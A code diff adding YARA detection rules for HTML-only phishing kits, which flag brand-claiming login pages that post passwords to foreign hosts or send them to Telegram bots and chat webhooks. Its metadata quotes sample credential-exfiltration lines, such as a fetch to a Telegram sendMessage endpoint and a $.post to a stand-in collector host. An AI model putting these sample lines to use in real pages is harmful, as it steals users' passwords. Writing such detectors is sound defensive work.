@@ -80,3 +80,152 @@ rule phishing_prefilled_victim_login : phishing
     condition:
         filesize < 400KB and any of ($v*) and phishing_pages__password_form and not phishing_pages__real_app_form
 }
+
+/* ----------------------------------------------------------------------
+ * Third phishing session (issue 12): the HTML-only clone that needs no PHP
+ * at all, because the form or a script sends the password to another host
+ * or to a messenger. Written from the technique and the invented variants of
+ * tests/eval/gen_variants.py (kit_html_form_ext, kit_html_js_exfil and their
+ * benign look-alikes: own login page, newsletter signup to a mail service,
+ * SSO forms); the corpus and the held-out sets were not opened.
+ * A real site's login form posts to its own host or a relative path; an SSO
+ * form posts to its identity provider and claims no other brand. What cannot
+ * be a real page: a page claiming a brand whose password leaves for a host
+ * that is not the brand's, and a password read by a script and sent to a
+ * Telegram bot or a chat webhook.
+ * ---------------------------------------------------------------------- */
+
+/* The page claims a brand: in its title, its copyright footer or as "your
+ * <brand> account" (the strings of the two clone rules above, together). */
+private rule phishing_pages__brand_claim
+{
+    strings:
+        /* a word start ("Purchase", "Citizens" are not Chase or Citi), and
+         * no end, so "Microsoft365" and "DHLExpress" count; no generic words
+         * ("Webmail", "Office", "Online Banking"): a small business's webmail
+         * page posts to its hosting company's server, which is another host
+         * too, and nothing in the page tells the two apart */
+        $t = /<title>[^<]{0,80}\b(PayPal|Microsoft|Office ?365|Outlook|OneDrive|SharePoint|Apple ID|iCloud|Netflix|DHL|FedEx|Wells ?Fargo|Chase|Bank ?of ?America|Coinbase|Binance|MetaMask|Dropbox|Amazon|Adobe|DocuSign|WeTransfer|Gmail|Google|Yahoo|AOL\b|Zimbra|Instagram|Facebook|Santander|Barclays|HSBC|Citi(bank)?\b|Capital ?One|American Express|USPS|Royal Mail|La Poste)/ nocase
+        $c1 = /(\xc2\xa9|&copy;|&#169;|\(c\)|copyright)\s{0,3}(20\d\d\s{0,3})?(PayPal|Microsoft|Office ?365|Apple|Netflix|DHL|FedEx|Wells Fargo|Chase|Bank of America|Coinbase|Binance|MetaMask|Dropbox|Amazon|Adobe|DocuSign|WeTransfer|Google|Yahoo|AOL|Zimbra|Instagram|Facebook|Santander|Barclays|HSBC|Citibank|Capital One|American Express|USPS|Royal Mail|La Poste)\b/ nocase
+        $c2 = /\b(PayPal|Microsoft|Office ?365|Apple|Netflix|DHL|FedEx|Wells Fargo|Chase|Bank of America|Coinbase|Binance|MetaMask|Dropbox|Amazon|Adobe|DocuSign|WeTransfer|Google|Yahoo|AOL|Zimbra|Instagram|Facebook|Santander|Barclays|HSBC|Citibank|Capital One|American Express|USPS|Royal Mail|La Poste)\s{0,3}(\xc2\xa9|&copy;|&#169;|\(c\)|copyright)\s{0,3}20\d\d/ nocase
+        $f = /(PayPal|Microsoft|Apple|Netflix|Amazon|Google|Yahoo|Outlook|Dropbox|Adobe|Coinbase|Binance|DHL|Zimbra)[ -](account|Konto|-account)|(compte|cuenta de|conta) (PayPal|Microsoft|Apple|Netflix|Amazon|Google|Yahoo|Outlook)\b/ nocase
+        /* more mail providers, banks and parcel services, claimed in a
+         * heading, a "Sign in to <brand>" line or the title (UPS and ING
+         * case-sensitive: "ups", "ing" are words) */
+        $b1 = /(<title>[^<]{0,80}|<h[1-3][^>]{0,120}>[^<]{0,60}|(sign in|log ?in|login|log on) to (your )?)\b(Hotmail|Outlook|Office ?365|Microsoft|Gmail|Google|Yahoo|AOL\b|Yandex|Mail\.ru|GMX|Web\.de|Zoho|ProtonMail|Xfinity|Comcast|AT&T|Verizon|iCloud|PayPal|Netflix|Apple|Amazon|DHL|FedEx|USPS|Royal Mail|DPD|Canada Post|Australia Post|PostNL|La Poste|Wells ?Fargo|Chase|Bank ?of ?America|Santander|Barclays|HSBC|Lloyds|NatWest|Halifax|TD Bank|Scotiabank|Capital ?One|American Express|Citi(bank)?\b|Commonwealth Bank|Westpac|BNP Paribas|Deutsche Bank|Sparkasse|Coinbase|Binance|MetaMask|Dropbox|DocuSign|Adobe|WeTransfer|SharePoint|OneDrive)/ nocase
+        $b2 = /(<title>[^<]{0,80}|<h[1-3][^>]{0,120}>[^<]{0,60}|(sign in|log ?in|login|log on) to (your )?|(\xc2\xa9|&copy;|&#169;)\s{0,3}(20\d\d\s{0,3})?)\b(UPS|ING)\b/
+        $b3 = /(\xc2\xa9|&copy;|&#169;|\(c\)|copyright)\s{0,3}(20\d\d\s{0,3})?(Hotmail|Yandex|Mail\.ru|GMX|Zoho|ProtonMail|Xfinity|Comcast|AT&T|Verizon|DPD|Canada Post|Australia Post|PostNL|Lloyds|NatWest|Halifax|TD Bank|Scotiabank|Commonwealth Bank|Westpac|BNP Paribas|Deutsche Bank|Sparkasse)\b/ nocase
+        /* "Use your Google account" (and a heading naming Google) is also
+         * what a real page with a "Sign in with Google" button says: the
+         * account or heading claim counts only on a page without one */
+        $o1 = /(sign in|log in|login|continue|sign up) with (Google|Microsoft|Apple|Facebook|PayPal|Amazon|Yahoo)/ nocase
+        $o2 = "oauth" ascii nocase
+    condition:
+        any of ($t, $c1, $c2, $b2, $b3) or (($f or $b1) and not any of ($o*))
+}
+
+private rule phishing_pages__password_field
+{
+    strings:
+        $p = /t[y]pe\s{0,2}=\s{0,2}["']?password/ nocase
+    condition:
+        $p
+}
+
+rule phishing_html_form_posts_offsite : phishing
+{
+    meta:
+        description = "Page claiming a brand whose password form posts to an absolute address that is not one of the brand's hosts"
+        severity = "high"
+        technique = "HTML-only sign-in clone: <title>Outlook Web App</title> ... <form action=\"https://other.example/owa/post\"> + password field"
+        seen = "none"
+    strings:
+        /* $own: the brands' own sign-in hosts. A saved copy of the real page,
+         * or an SSO form, posts there, and nothing leaves for a stranger. */
+        $ext = /<form[^>]{0,300}action\s{0,2}=\s{0,2}["']?(https?:)?\/\/[\w-]/ nocase
+        /* the same form posting to the claimed brand's own sign-in host */
+        $own = /<form[^>]{0,300}action\s{0,2}=\s{0,2}["']?(https?:)?\/\/([\w-]{1,40}\.){0,4}(microsoftonline\.com|live\.com|microsoft\.com|office\.com|office365\.com|outlook\.com|paypal\.com|apple\.com|icloud\.com|google\.com|yahoo\.com|aol\.com|netflix\.com|amazon\.com|dropbox\.com|adobe\.com|docusign\.net|dhl\.com|fedex\.com|wellsfargo\.com|chase\.com|bankofamerica\.com|facebook\.com|instagram\.com|coinbase\.com|binance\.com|yandex\.(ru|com)|mail\.ru|gmx\.(net|de|com)|web\.de|zoho\.com|proton\.me|ups\.com|usps\.com|lloydsbank\.com|natwest\.com|hsbc\.[a-z.]{2,6}|barclays\.co\.uk|santander\.[a-z.]{2,6}|citi\.com|capitalone\.com|americanexpress\.com)[\/"':?]/ nocase
+    condition:
+        filesize < 400KB and $ext and #ext > #own and phishing_pages__password_field and phishing_pages__brand_claim and
+        not phishing_pages__real_app_form
+}
+
+/* A script reads the password field's value (by id, name or the form). */
+private rule phishing_pages__password_read
+{
+    strings:
+        $r1 = /getElementById\s{0,2}\(\s{0,2}["'][\w-]{0,20}(pass|pwd|psw|pw|i0118)[\w-]{0,20}["']\s{0,2}\)\s{0,2}\.value/ nocase
+        $r2 = /\$\(\s{0,2}["'][^"'\n]{0,60}(pass|pwd|psw|pw|i0118)[^"'\n]{0,40}["']\s{0,2}\)\s{0,2}\.val\(\)/ nocase
+        $r3 = /querySelector\s{0,2}\(\s{0,2}["'][^"'\n]{0,80}(pass|pwd|psw|pw|i0118)[^"'\n]{0,40}["']\s{0,2}\)\s{0,2}\.value/ nocase
+        $r4 = /[.\[]["']?[\w-]{0,20}(pass|pwd|psw|pw|i0118)[\w-]{0,20}["']?\]?\.value\b/ nocase
+        $r5 = /new\s{1,4}FormData\s{0,2}\(/
+        $r6 = ".serialize()" ascii
+    condition:
+        any of them
+}
+
+/* ... and sends something from the page (fetch, XHR, jQuery, a beacon). */
+private rule phishing_pages__script_send
+{
+    strings:
+        $s1 = /\bfetch\s{0,2}\(/
+        $s2 = "XMLHttpRequest" ascii
+        $s3 = /\$\.(post|ajax|get)\s{0,2}\(/
+        $s4 = "sendBeacon(" ascii
+        $s5 = /axios\.post\s{0,2}\(/
+    condition:
+        any of them
+}
+
+/* Any field's value read by a script: on a page with a password field that
+ * sends to a messenger, which field it is does not matter. */
+private rule phishing_pages__field_read
+{
+    strings:
+        $v1 = /\)\s{0,2}\.value\b/
+        $v2 = /\)\s{0,2}\.val\(\)/
+        $v3 = /\.elements\s{0,2}[.\[]/
+    condition:
+        any of them
+}
+
+rule phishing_html_password_to_messenger : phishing
+{
+    meta:
+        description = "Page script that reads the password field and sends it to a Telegram bot or a chat webhook (Discord, Slack, webhook.site)"
+        severity = "high"
+        technique = "fetch('https://api.telegram.org/bot<token>/sendMessage', {body: JSON.stringify({chat_id, text: 'Pass: ' + pass.value})})"
+        seen = "none"
+    strings:
+        $m1 = "api.telegram.org" ascii nocase
+        $m2 = /discord(app)?\.com\/api\/webhooks\//
+        $m3 = "hooks.slack.com/services" ascii
+        $m4 = "webhook.site/" ascii
+        $m5 = "/sendMessage" ascii
+        $c = "chat_id" ascii
+    condition:
+        filesize < 1MB and phishing_pages__password_field and (phishing_pages__password_read or phishing_pages__field_read) and
+        phishing_pages__script_send and (any of ($m1, $m2, $m3, $m4) or ($m5 and $c))
+}
+
+rule phishing_html_password_posted_offsite : phishing
+{
+    meta:
+        description = "Page claiming a brand whose script reads the password field and posts it to an absolute (or encoded) address that is not one of the brand's hosts"
+        severity = "high"
+        technique = "HTML-only clone: $.post('https://collector.example/s', {u: email, p: $('#pass').val()}) / fetch(atob('...'))"
+        seen = "none"
+    strings:
+        $a1 = /\bfetch\s{0,2}\(\s{0,2}(["']https?:\/\/|atob\s{0,2}\()/
+        $a2 = /\.open\s{0,2}\(\s{0,2}["']POST["']\s{0,2},\s{0,2}(["']https?:\/\/|atob\s{0,2}\()/ nocase
+        $a3 = /\$\.post\s{0,2}\(\s{0,2}(["']https?:\/\/|atob\s{0,2}\()/
+        $a4 = /\burl\s{0,2}:\s{0,2}(["']https?:\/\/|atob\s{0,2}\()/
+        $a5 = /sendBeacon\s{0,2}\(\s{0,2}(["']https?:\/\/|atob\s{0,2}\()/
+        $a6 = /axios\.post\s{0,2}\(\s{0,2}(["']https?:\/\/|atob\s{0,2}\()/
+        /* the address in a variable the send call uses */
+        $a7 = /\b(var|let|const)\s{1,4}\w{1,30}\s{0,2}=\s{0,2}(["']https?:\/\/|atob\s{0,2}\()/
+        $own = /(fetch\s{0,2}\(|["']POST["']\s{0,2},|\$\.post\s{0,2}\(|\burl\s{0,2}:|sendBeacon\s{0,2}\(|axios\.post\s{0,2}\(|\b(var|let|const)\s{1,4}\w{1,30}\s{0,2}=)\s{0,2}["']https?:\/\/([\w-]{1,40}\.){0,4}(microsoftonline\.com|live\.com|microsoft\.com|office\.com|paypal\.com|apple\.com|google\.com|googleapis\.com|yahoo\.com|netflix\.com|amazon\.com|dropbox\.com|dhl\.com|fedex\.com|wellsfargo\.com|chase\.com|facebook\.com)[\/"':?]/ nocase
+    condition:
+        filesize < 1MB and (#a1 + #a2 + #a3 + #a4 + #a5 + #a6 + #a7) > #own and phishing_pages__script_send and phishing_pages__password_field and
+        phishing_pages__password_read and phishing_pages__brand_claim and not phishing_pages__real_app_form
+}
